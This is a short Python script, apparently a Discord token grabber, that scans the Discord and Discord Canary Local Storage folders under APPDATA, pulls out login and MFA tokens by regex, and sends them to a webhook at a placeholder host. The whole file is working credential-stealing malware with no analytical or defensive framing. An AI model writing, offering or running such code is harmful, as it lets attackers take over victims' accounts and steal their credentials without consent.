import os
import re
import urllib.request
ROAMING = os.getenv("APPDATA")
PATHS = {"Discord": ROAMING + "\\discord\\Local Storage\\leveldb", "Canary": ROAMING + "\\discordcanary\\Local Storage\\leveldb"}
tokens = []
for path in PATHS.values():
    if not os.path.exists(path):
        continue
    for name in os.listdir(path):
        for line in open(os.path.join(path, name), errors="ignore"):
            tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line) + re.findall(r"mfa\.[\w-]{84}", line)
urllib.request.urlopen(urllib.request.Request("https://tok.example.invalid/api/webhooks/1/x", data=str(tokens).encode()))
